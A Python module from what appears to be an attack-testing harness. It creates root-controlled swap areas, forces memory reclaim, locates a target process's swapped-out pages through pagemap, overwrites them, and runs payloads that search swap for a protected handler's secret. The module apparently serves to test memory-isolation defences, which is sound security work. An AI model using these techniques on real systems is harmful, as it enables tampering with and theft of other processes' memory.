# SPDX-License-Identifier: GPL-2.0-only
"""Swap areas that root controls: a loop device whose file root rewrites, and a file root reads."""

from __future__ import annotations

import re
import struct
from contextlib import suppress
from errno import EAGAIN
from os import O_CREAT, O_RDWR
from typing import TYPE_CHECKING

from harness.attacker.agent.attacker import SECRET_SIZE
from harness.attacker.agent.errors import GuestError
from harness.attacker.agent.files import File
from harness.attacker.tools.frames import KPF_ANON, KPF_SWAPCACHE, any_frame, frame_flags
from harness.attacker.tools.pagemap import (
    PAGE,
    SLOT_MASK,
    SLOT_SHIFT,
    SWAPPED,
    page_entry,
    page_frame,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from harness.attacker.agent.attacker import Attacker

_FOLDER = "/tmp/swap"  # noqa: S108 - the guest's, not ours
_FILE = f"{_FOLDER}/file"
_LOOP_SET_FD = 0x4C00  # include/uapi/linux/loop.h
_LOOP_CTL_GET_FREE = 0x4C82

# union swap_header of include/linux/swap.h, behind the boot block: version and last page
_HEADER_AT, _HEADER = 1024, struct.Struct("<II")
_MAGIC = b"SWAPSPACE2"

_SLOT = 8
"""Bytes of a slot number in the output of the payload find_page.c."""

_STEPS = 32
"""Reclaim steps in which the whole device could be filled, so that memory is not evicted at once.
After as many steps the attack gives up: 7 were enough wherever a page could be evicted. The limit
is a count because a busy host makes each step slow."""


class StaysInMemory(Exception):
    """The page was not swapped out, however much memory was reclaimed."""


class SwapDevice:
    """A swap area on a loop device over a file in a ramfs.

    Root writes to the file: a write to the device itself fails with ETXTBSY while it is a swap
    area. The file is in a ramfs because a tmpfs file would itself be swapped out. The kernel
    reads a page from the device only when the swap cache has no copy of it, so the methods here
    evict a page from the swap cache as well.
    """

    def __init__(self, attacker: Attacker, *, pages: int) -> None:
        """Create the device with room for `pages` pages and enable it, as set-up."""
        self._attacker = attacker
        self._step = pages * PAGE // _STEPS
        with attacker.setup():
            attacker.mkdir(_FOLDER)
            attacker.mount("none", _FOLDER, "ramfs")
            self._file = attacker.open(_FILE, O_RDWR | O_CREAT, 0o600)
            attacker.syscall("ftruncate", self._file.fd, pages * PAGE)
            _format(self._file, pages)
            attacker.syscall("swapon", self._loop_device(), 0)
            attacker.write_file("/proc/sys/vm/swappiness", b"200")  # reclaim no page cache

    def _loop_device(self) -> str:
        attacker = self._attacker
        with attacker.open("/dev/loop-control", O_RDWR) as control:
            device = f"/dev/loop{attacker.syscall('ioctl', control.fd, _LOOP_CTL_GET_FREE, 0)}"
        # The swap area keeps the device open, so it stays bound to the file.
        with attacker.open(device, O_RDWR) as loop:
            attacker.syscall("ioctl", loop.fd, _LOOP_SET_FD, self._file.fd)
            return device

    def push_out_page(self, pid: int, address: int, page_out: Callable[[], None]) -> int:
        """Swap out one page of a stopped process, until only the device has it; return its slot.

        `page_out` evicts the page from the process. Raises StaysInMemory.
        """
        frame = page_frame(self._attacker, pid, address)
        drain_batches(self._attacker)
        page_out()

        def slot() -> int | None:
            entry = page_entry(self._attacker, pid, address)
            # After the page was written out, the frame may still hold a copy of it.
            is_out = entry & SWAPPED and not frame_flags(self._attacker, frame) & KPF_SWAPCACHE
            return entry >> SLOT_SHIFT & SLOT_MASK if is_out else None

        return self._reclaim_until(slot)

    def finder(self, place: int, wanted: bytes) -> Callable[[], int]:
        """Start the payload find_page; return a function that searches the device once per call.

        The search is for the first page that has the bytes `wanted` at offset `place`. The
        function returns the page's slot, -1 if there is none, and raises ChildProcessError if the
        payload has ended.
        """
        attacker = self._attacker
        path = attacker.payload("find_page")
        with attacker.setup():
            asked, ask = attacker.pipe()
            answer, answered = attacker.pipe()
            words = _FILE, str(place), wanted.hex()
            with asked, answered:
                attacker.spawn(path, *words, stdin=asked.fd, stdout=answered.fd)

        def find() -> int:
            ask.write(b"?")
            found = answer.read(_SLOT)
            if len(found) < _SLOT:
                raise ChildProcessError("the payload find_page has ended")
            return int.from_bytes(found, "little", signed=True)

        return find

    def push_out(self, find: Callable[[], int]) -> int:
        """Reclaim memory until only the device has the page that `find` finds; return its slot.

        The swap cache is checked for pages of a tmpfs as a whole. If other tmpfs pages stay in
        it, all reclaim steps are made. Raises StaysInMemory if the page is never found.
        """

        def out() -> int | None:
            found = find()
            return None if found < 0 else found

        slot = self._reclaim_until(out)
        with suppress(StaysInMemory):
            self._reclaim_until(lambda: None if _cached(self._attacker) else slot)
        return slot

    def _reclaim_until(self, slot: Callable[[], int | None]) -> int:
        for _ in range(_STEPS):
            if (found := slot()) is not None:
                return found
            reclaim(self._attacker, self._step)
        raise StaysInMemory("the page was never swapped out, or memory kept a copy of it")

    def rewrite(self, slot: int, offset: int, data: bytes) -> None:
        """Overwrite a swapped-out page with `data`, at `offset` bytes into the page."""
        self._file.pwrite(data, slot * PAGE + offset)


class SwapFile:
    """A swap area in a file on the guest's disk. While it is in use, root can only read it."""

    path = "/var/tmp/swap"  # noqa: S108 - the guest's, not ours

    def __init__(self, attacker: Attacker, *, pages: int) -> None:
        """Create the file with room for `pages` pages and enable it, as set-up."""
        self._attacker = attacker
        with attacker.setup():
            zeros = File(attacker, attacker.syscall("memfd_create", "zeros", 0))
            with zeros, attacker.open(self.path, O_RDWR | O_CREAT, 0o600) as file:
                attacker.syscall("ftruncate", zeros.fd, pages * PAGE)
                # The file system returns zeros for blocks never written, whatever is on the disk.
                attacker.syscall("sendfile", file.fd, zeros.fd, 0, pages * PAGE)
                _format(file, pages)
            attacker.syscall("swapon", self.path, 0)

    def secret(self, *places: int) -> bytes:
        """Return the handler's secret if the payload read_swap finds it in the swap file.

        The payload locks memory until other processes are swapped out, and searches the file for
        a page like the handler's. `places` are the offsets in that page of request, state and
        secret. Without a match the result is b"-" if memory ran short, else b"".
        """
        attacker = self._attacker
        payload, words = attacker.payload("read_swap"), (self.path, *map(str, places))
        reader, writer = attacker.pipe()
        with reader:
            with writer:
                attacker.run(payload, *words, stdout=writer.fd)
            return reader.read(SECRET_SIZE)


def swappable(attacker: Attacker) -> int:
    """Return how many pages the kernel could swap out now, at least 2048.

    A swap area should have this size: processes started later need some room, and in a larger
    area the kernel keeps pages in the swap cache until half of the area is used.
    """
    with attacker.setup():
        info = attacker.read_file("/proc/meminfo").decode()
    kib = sum(map(int, re.findall(r"^(?:AnonPages|Shmem): +(\d+)", info, re.MULTILINE)))
    return max(2048, kib * 1024 // PAGE)


def reclaim(attacker: Attacker, size: int) -> None:
    """Ask the kernel to reclaim `size` bytes of memory. To reclaim fewer is no error."""
    drain_batches(attacker)
    try:
        attacker.write_file("/sys/fs/cgroup/memory.reclaim", b"%d" % size)
    except GuestError as error:
        if error.errno != EAGAIN:
            raise


def drain_batches(attacker: Attacker) -> None:
    """Move pages from the per-CPU batches to the LRU lists, the only pages that reclaim sees."""
    attacker.write_file("/proc/sys/vm/drop_caches", b"1")


def _format(file: File, pages: int) -> None:
    """Write a swap header, as mkswap(8) does."""
    file.pwrite(_HEADER.pack(1, pages - 1), _HEADER_AT)
    file.pwrite(_MAGIC, PAGE - len(_MAGIC))


def _cached(attacker: Attacker) -> bool:
    """Return whether the swap cache has a tmpfs page, such as a page of the handler's blob.

    The size of the swap cache is no measure: pages of processes stay in it indefinitely.
    """
    return any_frame(attacker, KPF_SWAPCACHE, of=KPF_SWAPCACHE | KPF_ANON)
